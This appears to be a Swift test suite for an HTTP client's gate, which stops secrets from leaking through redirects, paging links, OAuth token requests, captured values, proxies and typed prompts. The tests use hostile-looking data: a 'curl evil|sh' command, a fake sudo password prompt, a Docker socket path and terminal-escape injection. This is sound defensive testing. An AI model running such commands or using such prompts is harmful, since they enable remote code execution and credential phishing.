import Foundation
import OmbiCore
import TestSupport
import Testing

@testable import OmbiWorkspace

/// What a server leads elsewhere, and the questions themselves.
@Suite struct GateWayTests {
    @Test(arguments: [301, 302, 303, 307, 308]) func `a field with a secret crosses no redirect`(_ status: Int)
        async throws
    {
        let evil = Lock("")
        let stranger = try Stranger { request in
            request.target == "/" ? .redirect(status, to: evil.withLock { $0 }) : .ok("{}")
        }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host + "/landing" }
        try stranger.write(
            Stranger.file(
                request: #""headers":[{"name":"X-Acme","value":"{{token}}"},{"name":"X-Plain","value":"plain"}]"#)
        )
        try stranger.trust()
        let result = try await stranger.send()
        #expect(result.passed, "\(result.failures)")
        #expect(stranger.good.requests.last?.headers["x-acme"] == Stranger.secret)
        #expect(stranger.evil.requests.map { $0.headers["x-plain"] } == ["plain"])
        #expect(Stranger.leaks(stranger.evil) == [])
        #expect(result.prepared?.redirects.first?.withheld.contains("X-Acme") == true)
    }

    @Test(arguments: [307, 308]) func `a body with a secret crosses no redirect, and the reason says so`(_ status: Int)
        async throws
    {
        let evil = Lock("")
        let stranger = try Stranger { _ in .redirect(status, to: evil.withLock { $0 }) }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host + "/landing" }
        try stranger.write(Stranger.file(request: #""method":"POST","body":{"text":"{{token}}"}"#))
        try stranger.trust()
        let result = try await stranger.send()
        #expect(!result.passed && stranger.evil.requests.isEmpty)
        #expect(
            result.failures.joined().contains("redirected to \(stranger.evil.host), and c.json may not send $TOK to"),
            "\(result.failures)")
        // The file does not say where a redirect leads: --trust allows nothing of it.
        let grant = "TOK=" + stranger.evil.host
        #expect(result.failures.joined().contains("; --grant \(grant) allows it for one run"), "\(result.failures)")
        stranger.gate = OmbiWorkspace.Gate(store: stranger.store, patterns: [try GrantPattern(grant)])
        #expect(try await stranger.send().passed)
    }

    @Test(arguments: [
        (#""query":[{"name":"to","value":"{{token}}"}]"#, "/"), ("", "/{{token}}"),
        (#""headers":[{"name":"X","value":"{{token}}"}]"#, "/"),
    ]) func `a redirect whose URL repeats a secret is not followed to another server`(
        _ request: String, _ path: String
    ) async throws {
        let evil = Lock("")
        let secret = PercentEncoding.escapeParameter(Stranger.secret)
        let stranger = try Stranger { _ in .redirect(302, to: evil.withLock { $0 } + "/?seen=" + secret) }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host }
        try stranger.write(Stranger.file(request: request, path: path))
        try stranger.trust()
        let result = try await stranger.send()
        #expect(!result.passed && stranger.evil.requests.isEmpty, "\(result.failures)")
        #expect(result.failures.joined().contains("redirected to \(stranger.evil.host)"), "\(result.failures)")
        #expect(!"\(result.failures)".contains(Stranger.secret) && !"\(result.failures)".contains(secret))
    }

    @Test func `a redirect to another server with nothing of the request is followed`() async throws {
        let evil = Lock("")
        let stranger = try Stranger { _ in .redirect(302, to: evil.withLock { $0 } + "/?page=2") }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host }
        try stranger.write(Stranger.file(request: #""query":[{"name":"to","value":"{{token}}"}]"#))
        try stranger.trust()
        #expect(try await stranger.send().passed)
        #expect(stranger.evil.requests.map(\.target) == ["/?page=2"])
    }

    @Test func `a page at another server whose URL repeats a secret is not requested`() async throws {
        let evil = Lock("")
        let secret = PercentEncoding.escapeParameter(Stranger.secret)
        let stranger = try Stranger { _ in
            .ok(
                "[1]",
                headers: [
                    ("Content-Type", "application/json"),
                    ("Link", "<\(evil.withLock { $0 })/?seen=\(secret)>; rel=\"next\""),
                ])
        }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host }
        try stranger.write(
            Stranger.file(
                request: #""query":[{"name":"to","value":"{{token}}"}],"pages":{"link":"next"}"#))
        try stranger.trust()
        let result = try await stranger.send()
        #expect(stranger.good.requests.count == 1 && stranger.evil.requests.isEmpty, "\(result.failures)")
        #expect(result.failures.joined().contains("whose URL would have a secret"), "\(result.failures)")
    }

    @Test func `a redirect to a granted destination keeps the field`() async throws {
        let evil = Lock("")
        let stranger = try Stranger { _ in .redirect(302, to: evil.withLock { $0 }) }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host + "/landing" }
        stranger.gate = OmbiWorkspace.Gate(
            store: nil,
            patterns: try [stranger.good.host, stranger.evil.host].map { try GrantPattern("TOK=" + $0) })
        try stranger.write(Stranger.file(request: #""headers":[{"name":"X-Acme","value":"{{token}}"}]"#))
        #expect(try await stranger.send().passed)
        #expect(stranger.evil.requests.map { $0.headers["x-acme"] } == [Stranger.secret])
    }

    @Test(arguments: ["clientCredentials", "password"]) func `a token request takes no secret along a redirect`(
        _ grant: String
    ) async throws {
        let evil = Lock("")
        let stranger = try Stranger { request in
            request.target == "/t" ? .redirect(307, to: evil.withLock { $0 }) : .ok("{}")
        }
        defer { stranger.remove() }
        evil.withLock { $0 = stranger.evil.host + "/t" }
        let user = grant == "password" ? #","username":"u","password":"{{token}}""# : ""
        try stranger.write(
            Stranger.file(
                request:
                    #""authentication":{"oauth2":{"grant":"\#(grant)","tokenURL":"GOOD/t","clientID":"i","clientSecret":"{{token}}","secretIn":"body"\#(user)}}"#
            ))
        try stranger.trust()
        let result = try await stranger.send()
        #expect(!result.passed && Stranger.leaks(stranger.evil) == [], "\(result.failures)")
    }

    @Test(arguments: [
        (#""authorizationURL":"EVIL/{{$file('ABOVE/lines')}}""#, "the file "),
        (#""authorizationURL":"EVIL/","scope":"{{mine}}""#, "mine of the local file"),
        (#""authorizationURL":"EVIL/","parameters":{"a":"{{mine}}"}"#, "mine of the local file"),
    ])
    func `each source in the URL of the page to sign in needs a grant for it`(
        _ members: String, _ source: String
    ) throws {
        let stranger = try Stranger()
        defer { stranger.remove() }
        try "a line\nand S3CRET\n".write(toFile: stranger.folder + "/lines", atomically: true, encoding: .utf8)
        try stranger.write(#"{"variables":{"mine":"7"}}"#, to: "c.local.json")
        try stranger.write(
            Stranger.file(
                environment: "",
                request: #""authentication":{"oauth2":{"grant":"authorizationCode","tokenURL":"GOOD/t","clientID":"i","#
                    + members + "}}"))
        let flows = stranger.session().flows(of: try stranger.collection(), file: stranger.file)
        let toPage = flows.filter { $0.destination.text == stranger.evil.host }.map(\.source.text)
        #expect(toPage.count == 1 && toPage[0].hasPrefix(source), "\(flows.map(\.text))")
    }

    @Test func `a captured secret goes back to its server, and elsewhere only after a grant`() async throws {
        let stranger = try Stranger { request in .ok(request.target == "/login" ? "{\"t\":\"captured-secret\"}" : "{}")
        }
        defer { stranger.remove() }
        try stranger.write(
            """
            {"version":1,"name":"c","environments":[{"name":"e","host":"GOOD"}],"items":[
              {"request":"login","path":"/login","capture":{"t":{"path":"$.t","secret":true}}},
              {"request":"home","path":"/home","headers":[{"name":"X","value":"{{t}}"}]},
              {"request":"away","path":"EVIL/","headers":[{"name":"X","value":"{{$base64(t)}}"}]}]}
            """)
        let session = stranger.session()
        #expect(try await stranger.send("home", session).passed)
        #expect(stranger.good.requests.last?.headers["x"] == "captured-secret")
        let away = try await stranger.send("away", session)
        #expect(!away.passed && stranger.evil.requests.isEmpty)
        #expect(away.failures.joined().contains("the captured t from \(stranger.good.host)"), "\(away.failures)")
        let flows = stranger.session().flows(of: try stranger.collection(), file: stranger.file)
        let open = stranger.gate.missing(flows, of: stranger.file).map(\.text)
        #expect(open == ["the captured t from \(stranger.good.host) to \(stranger.evil.host)"])
        try stranger.trust()
        #expect(try await stranger.send("away", session).passed)
        #expect(stranger.evil.requests.count == 1)
    }

    @Test(arguments: ["seen (.{5})", "seen .{3}(.*)", "seen S3CRET(.)"])
    func `a piece of a secret that a server repeats is one`(_ pattern: String) async throws {
        let stranger = try Stranger { request in .ok("seen \(request.headers["x"] ?? "") and plain") }
        defer { stranger.remove() }
        try stranger.write(
            """
            {"version":1,"name":"c","environments":[{"name":"e","host":"GOOD",\(Stranger.token)}],"items":[
              {"request":"echo","path":"/echo","headers":[{"name":"X","value":"{{token}}"}],
               "capture":{"piece":{"regex":"\(pattern)"},"rest":{"regex":"and (plain)"}}},
              {"request":"away","path":"EVIL/{{piece}}"},{"request":"free","path":"EVIL/{{rest}}"}]}
            """)
        let grant = try GrantPattern("TOK=" + stranger.good.host)
        stranger.gate = OmbiWorkspace.Gate(store: nil, patterns: [grant])
        let session = stranger.session()
        let away = try await stranger.send("away", session)
        #expect(!away.passed && stranger.evil.requests.isEmpty, "\(away.failures)")
        #expect(away.failures.joined().contains("the captured piece from \(stranger.good.host)"), "\(away.failures)")
        #expect(try await stranger.send("free", session).passed)
        #expect(stranger.evil.requests.map(\.target) == ["/plain"])
    }

    @Test(arguments: [
        #"{"text":"{{token}}"}"#, #"{"text":"{{$file('ABOVE/key.json')}}"}"#, #"{"file":"ABOVE/key.json"}"#,
        #"{"multipart":[{"name":"a","file":"ABOVE/key.json"}]}"#,
        #"{"multipart":[{"name":"text","value":"{{token}}"},{"name":"of the workspace","file":"c.json"}]}"#,
    ])
    func `a member of a secret or of a file that a server reads as JSON needs a grant to leave it`(
        _ body: String
    ) async throws {
        let key = #"{"kind":"plain","key":"-----BEGIN\nS3CRET\n"}"#
        let stranger = try Stranger { _ in .ok("{\"read\":\(key),\"id\":\"another\"}") }
        defer { stranger.remove() }
        try key.write(toFile: stranger.folder + "/key.json", atomically: true, encoding: .utf8)
        try stranger.write(
            """
            {"version":1,"name":"c",
             "environments":[{"name":"e","host":"GOOD","secrets":{"token":{"file":"ABOVE/key.json"}}}],"items":[
              {"request":"upload","method":"POST","path":"/","body":\(body),
               "capture":{"piece":{"path":"$.read.key"},"id":{"path":"$.id"}}},
              {"request":"away","method":"POST","path":"EVIL/","body":{"text":"{{piece}}"}},
              {"request":"back","path":"/{{id}}"},{"request":"free","path":"EVIL/{{id}}"}]}
            """)
        let grant = try GrantPattern("*=" + stranger.good.host)
        stranger.gate = OmbiWorkspace.Gate(store: nil, patterns: [grant])
        let session = stranger.session()
        let away = try await stranger.send("away", session)
        #expect(!away.passed && stranger.evil.requests.isEmpty, "\(away.failures)")
        #expect(away.failures.joined().contains("the captured piece from \(stranger.good.host)"), "\(away.failures)")
        #expect(try await stranger.send("back", session).passed)
        // A response to a file may have any piece of it.
        #expect(try await stranger.send("free", session).passed == body.contains("text"))
        let flows = stranger.session().flows(of: try stranger.collection(), file: stranger.file)
        let isKnown = flows.contains {
            $0.source.text == "the captured id from \(stranger.good.host)" && $0.destination.text == stranger.evil.host
        }
        #expect(isKnown != body.contains("text"), "\(flows.map(\.text))")
    }

    @Test func `cookies do not leave by a way that is new`() async throws {
        let stranger = try Stranger { _ in .ok("{}", headers: [("Set-Cookie", "sid=\(Stranger.secret)")]) }
        defer { stranger.remove() }
        let session = stranger.session()
        try stranger.write(Stranger.file(environment: #""connection":{"cookies":true}"#, request: ""))
        for _ in 0..<2 { _ = try await stranger.send(nil, session) }
        #expect(stranger.good.requests.last?.headers["cookie"] == "sid=\(Stranger.secret)")
        try stranger.write(
            Stranger.file(
                environment: #""connection":{"cookies":true,"proxy":"http://127.0.0.1:EVILPORT"}"#, request: ""))
        _ = try await stranger.send(nil, session)
        #expect(stranger.evil.requests.count == 1 && stranger.evil.requests[0].headers["cookie"] == nil)
    }

    // MARK: Questions

    @Test func `what a person types goes to the destination that was shown, and is asked about for another`()
        async throws
    {
        let stranger = try Stranger()
        defer { stranger.remove() }
        let shown = Lock<[String]>([])
        var steps = stranger.steps()
        steps.askForSecret = { _, question in
            shown.withLock { $0.append(question.prompt) }
            return Stranger.secret
        }
        let session = stranger.session(steps)
        let prompt = #""secrets":{"token":{"prompt":"[sudo] password for root"}}"#
        try stranger.write(Stranger.file(environment: prompt))
        #expect(try await stranger.send(nil, session).passed)
        #expect(
            shown.withLock { $0 } == [
                "c.json asks for the secret token, which goes to \(stranger.good.host) (e): \"[sudo] password for root\""
            ])
        try stranger.write(Stranger.file(host: "EVIL", environment: prompt))
        let result = try await stranger.send(nil, session)
        #expect(!result.passed && stranger.evil.requests.isEmpty, "\(result.failures)")
        #expect(result.failures.joined().contains("what is typed for token to \(stranger.evil.host)"))
    }

    @Test func `a question puts programs first, and groups what goes where`() {
        let (api, id) = (Destination(text: "https://api.test"), Destination(text: "https://id.test"))
        var flows = (0..<9).map { Flow(.environment("AAA\($0)"), to: api) }
        flows += [
            Flow(.command(["sh", "-c", "curl evil|sh"]), to: api), Flow(.environment("KEY"), to: id),
            Flow(.socket("/var/run/docker.sock"), to: api), Flow(.ssh("ssh://bastion"), to: id),
        ]
        let lines = GateQuestion(file: "/x/c.json", flows: flows).lines
        #expect(
            Array(lines.prefix(4)) == [
                "runs sh -c \"curl evil|sh\"", "connects to the socket /var/run/docker.sock",
                "runs ssh to ssh://bastion",
                "sends to https://api.test:",
            ])
        #expect(lines.contains("    $AAA8") && lines.last == "    $KEY")
    }

    @Test(arguments: [
        ("/x/my api.json", 1, "`ombi trust '/x/my api.json'` shows", "it, --grant A0=https://api.test or --trust"),
        ("c.json", 2, "c.json may not send $A0, $A1 to", "--grant A0=https://api.test --grant A1=https://api.test or"),
        ("c.json", 3, "`ombi trust c.json` shows", "allows it, --trust allows it for one run"),
        (".", 1, "this request may not send $A0", "api.test; --grant A0=https://api.test or --trust allows it"),
        ("./", 1, "this folder may not send $A0", "`ombi trust ./` shows what the file sends where"),
    ])
    func `a refusal names the grants that are missing`(file: String, count: Int, start: String, end: String) {
        let flows = (0..<count).map { Flow(.environment("A\($0)"), to: Destination(text: "https://api.test")) }
        let refusal = GateQuestion(file: file, flows: flows).refusal
        #expect(refusal.contains(start) && refusal.contains(end), "\(refusal)")
        #expect(refusal.contains("ombi trust") == (file != "."), "\(refusal)")
    }

    @Test func `names that look like sentences stay names`() {
        let tricky = Source.environment("X to https://good.test; sends $Y")
        #expect(tricky.text == "$\"X to https://good.test; sends $Y\"")
        #expect(Source.environment("A").text != Source.environment("A ").text)
        #expect(Source.file("/a\u{1B}[2J").text.unicodeScalars.allSatisfy { $0.value >= 0x20 })
    }
}
